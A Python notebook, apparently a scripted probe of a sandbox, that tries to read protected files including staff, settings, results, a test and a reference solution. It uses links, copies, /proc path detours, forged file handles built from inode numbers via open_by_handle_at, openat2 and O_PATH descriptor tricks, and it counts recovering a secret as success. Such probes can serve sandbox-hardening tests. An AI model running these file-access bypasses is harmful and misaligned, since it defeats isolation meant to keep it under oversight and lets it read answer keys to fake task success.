# title: the same files by links, handles, mappings, other system calls and other libraries
# success: a secret of a file in the note
# keeps: nothing

# %%
import linecache, mmap, os, shutil, struct, tokenize, zipfile
import numpy as np

paths = [MAP["staff"], MAP["settings"], MAP["result"], MAP["tests"] + "/q4.py", MAP["files"] + "/reference_solution/network.py"]
found = set()
for index, path in enumerate(paths):
    tried(os.symlink, path, f"soft{index}")
    tried(os.link, path, f"hard{index}")
    tried(shutil.copy, path, f"copy{index}")
    tried(os.rename, path, f"moved{index}")
    for name in ("soft", "hard", "copy", "moved"):
        found |= secrets_in(read(f"{name}{index}"))
    for detour in (f"/proc/self/root{path}", f"/proc/self/cwd/../../../../..{path}", f"/proc/thread-self/root{path}", f"//{path}"):
        found |= secrets_in(read(detour))
    data = tried(np.fromfile, path, dtype=np.uint8)
    found |= secrets_in(data.tobytes() if data is not None else b"")
    found |= secrets_in("".join(tried(linecache.getlines, path) or []).encode())
    found |= secrets_in(repr(tried(np.genfromtxt, path, dtype=str, delimiter="\0")).encode())
say(found)

# %%
# A handle names a file without a path; who may search every folder may open by handle.
AT_FDCWD, SYS_name_to_handle_at, SYS_open_by_handle_at = -100, 303, 304
for path in paths:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
    mount = ctypes.c_int()
    if libc.syscall(SYS_name_to_handle_at, AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        for anchor in ("/", "/proc/self/cwd", "."):
            folder = tried(os.open, anchor, os.O_RDONLY)
            descriptor = libc.syscall(SYS_open_by_handle_at, folder, handle, os.O_RDONLY) if folder is not None else -1
            if descriptor >= 0:
                found |= secrets_in(os.read(descriptor, 1 << 20))
# The number of a file is public where its folder can be looked at: handles can be made without being given one.
for path in paths:
    facts = tried(os.stat, path)
    if facts:
        for kind, body in ((1, struct.pack("II", facts.st_ino, 0)), (0x81, struct.pack("QI", facts.st_ino, 0))):
            handle = ctypes.create_string_buffer(struct.pack("Ii", len(body), kind) + body)
            folder = tried(os.open, ".", os.O_RDONLY)
            descriptor = libc.syscall(SYS_open_by_handle_at, folder, handle, os.O_RDONLY)
            if descriptor >= 0:
                found |= secrets_in(os.read(descriptor, 1 << 20))
say(found)

# %%
for path in paths:  # openat2, openat by a descriptor without rights, execveat and a mapping
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    for descriptor in (libc.syscall(437, AT_FDCWD, path.encode(), how, len(how)), tried(os.open, path, os.O_PATH)):
        if descriptor is not None and descriptor >= 0:
            found |= secrets_in(read(f"/proc/self/fd/{descriptor}"))
            again = libc.syscall(257, descriptor, b"", os.O_RDONLY | 0x1000)
            found |= secrets_in(os.read(again, 1 << 20)) if again >= 0 else set()
            libc.linkat(descriptor, b"", AT_FDCWD, b"linked", 0x1000)
            found |= secrets_in(read("linked"))
say(found)
